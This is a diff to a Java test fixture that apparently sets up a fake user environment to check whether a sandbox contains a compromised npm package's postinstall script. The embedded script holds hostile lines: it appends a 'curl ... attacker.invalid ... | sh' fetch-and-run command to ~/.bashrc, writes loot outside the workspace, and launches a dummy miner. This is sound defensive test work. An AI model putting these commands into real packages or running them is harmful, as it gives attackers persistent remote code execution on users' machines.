@@ -21,10 +21,13 @@ public record DemoWorld(Path root, Path home, Path workspace, Path outside, Map<
     public static final String GITHUB_TOKEN = "ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000";
     public static final String NPM_TOKEN = "npm_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE00";
 
+    static final String BASHRC = "# the user's shell start-up file\n";
+
     /** The script a compromised dependency would run at install time. */
     static final String POSTINSTALL = """
             #!/bin/sh
             # A compromised package's postinstall: does its job, then goes for your secrets.
+            exec 2>&1
             echo "postinstall: compiling native addon..."
             mkdir -p build && echo "addon built" > build/addon.txt && cat build/addon.txt
 
@@ -37,11 +40,26 @@ public record DemoWorld(Path root, Path home, Path workspace, Path outside, Map<
 
             echo "postinstall: persisting..."
             echo 'curl -s https://attacker.invalid/x | sh' >> "$HOME/.bashrc"
-            echo "stolen" > "$OUTSIDE/loot.txt"
+            echo "stolen" > "%OUTSIDE%/loot.txt"
             "$HOME/Downloads/miner"
 
             echo "postinstall: done"
             """;
+
+    /** What the run must leave as it was: the attack's targets. */
+    public List<String> verdicts() throws IOException {
+        List<String> failures = new java.util.ArrayList<>();
+        if (!Files.readString(home.resolve(".bashrc")).equals(BASHRC)) {
+            failures.add("~/.bashrc was changed");
+        }
+        if (Files.exists(outside.resolve("loot.txt"))) {
+            failures.add("a file was written outside the workspace");
+        }
+        if (!Files.exists(workspace.resolve("build/addon.txt"))) {
+            failures.add("the legitimate build output is missing");
+        }
+        return failures;
+    }
 
     /** Lays the world out under a fresh directory in {@code parent}. */
     public static DemoWorld create(Path parent) throws IOException {
@@ -61,7 +79,7 @@ public record DemoWorld(Path root, Path home, Path workspace, Path outside, Map<
                 -----END OPENSSH PRIVATE KEY-----
                 """);
         write(home.resolve(".npmrc"), "//registry.npmjs.org/:_authToken=" + NPM_TOKEN + "\n");
-        write(home.resolve(".bashrc"), "# the user's shell start-up file\n");
+        write(home.resolve(".bashrc"), BASHRC);
         Path miner = write(home.resolve("Downloads/miner"), "#!/bin/sh\necho 'miner: mining with your CPU'\n");
         Files.setPosixFilePermissions(miner, PosixFilePermissions.fromString("rwxr-xr-x"));
 
@@ -73,12 +91,11 @@ public record DemoWorld(Path root, Path home, Path workspace, Path outside, Map<
         write(workspace.resolve("package.json"), """
                 {"name": "demo-app", "version": "1.0.0", "dependencies": {"left-pad-compromised": "1.3.1"}}
                 """);
-        Path script = write(workspace.resolve("postinstall.sh"), POSTINSTALL);
+        Path script = write(workspace.resolve("postinstall.sh"), POSTINSTALL.replace("%OUTSIDE%", outside.toString()));
         Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
 
         Map<String, String> env = new LinkedHashMap<>();
         env.put("HOME", home.toString());
-        env.put("OUTSIDE", outside.toString());
         env.put("GITHUB_TOKEN", GITHUB_TOKEN);
         env.put("AWS_ACCESS_KEY_ID", AWS_KEY);
         env.put("AWS_SECRET_ACCESS_KEY", AWS_SECRET);
